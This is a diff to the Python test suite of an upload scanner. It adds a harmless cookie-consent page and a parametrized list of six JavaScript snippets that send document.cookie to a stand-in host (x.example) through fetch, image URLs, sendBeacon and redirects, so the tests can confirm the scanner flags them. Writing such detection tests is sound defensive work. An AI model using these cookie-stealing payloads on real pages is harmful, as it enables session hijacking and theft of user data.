@@ -213,6 +213,42 @@ def test_a_page_fetching_its_own_data_is_no_exfiltration_but_sending_cookies_is(
     assert _script_confidence(hidden) == scripts.exfiltration_confidence
 
 
+CONSENT_BANNER = (
+    b"<html><body><div id=consent hidden><button onclick=choose(true)>Accept</button></div><script>"
+    b"function consented(){return document.cookie.split('; ').find(function(c){return c.indexOf('consent=')===0})}"
+    b"function choose(yes){document.cookie='consent='+(yes?'yes':'no')+'; path=/';"
+    b"fetch('/api/consent',{method:'POST',body:JSON.stringify({accepted:yes})});if(yes)load()}"
+    b"function load(){var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtag/js';"
+    b"document.head.appendChild(s)}var c=consented();if(!c)document.getElementById('consent').hidden=false;"
+    b"</script></body></html>"
+)
+
+
+def test_a_consent_banner_parsing_and_writing_its_cookie_beside_requests_is_no_exfiltration() -> None:
+    result, findings = scan(CONSENT_BANNER, "index.html")
+    (f,) = findings
+    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
+    assert f.evidence["exfiltration_markers"]["document.cookie:kept"] == 2
+    assert "document.cookie" not in f.evidence["exfiltration_markers"]
+    assert verdict(result.status, findings, POLICY) is Verdict.review
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch('//x.example/c?'+document.cookie.replace(/;/g,'&'))",  # parsed, then joined into a URL
+        "var c = document.cookie;\nnew Image().src = '//x.example/?' + c;",  # through a variable
+        "const d=document.cookie,u='//x.example';fetch(u,{method:'POST',body:d})",  # an object's value
+        "fetch(`//x.example/?${document.cookie}`)",
+        "navigator.sendBeacon('//x.example', btoa(document.cookie))",
+        "document.cookie='seen=1';location='//x.example/?'+document.cookie",  # a write beside a theft
+    ],
+)
+def test_a_cookie_handed_on_to_a_request_is_exfiltration_however_it_is_spelt(script: str) -> None:
+    page = f"<html><body><script>{script}</script></body></html>".encode()
+    assert _script_confidence(page) == POLICY.upload_scanning.scripts.exfiltration_confidence
+
+
 def test_a_login_page_naming_brands_in_passing_is_no_phishing_page() -> None:
     page = (
         b"<html><head><title>Sign in - Acme Shop</title></head><body><h1>Sign in to Acme Shop</h1>"
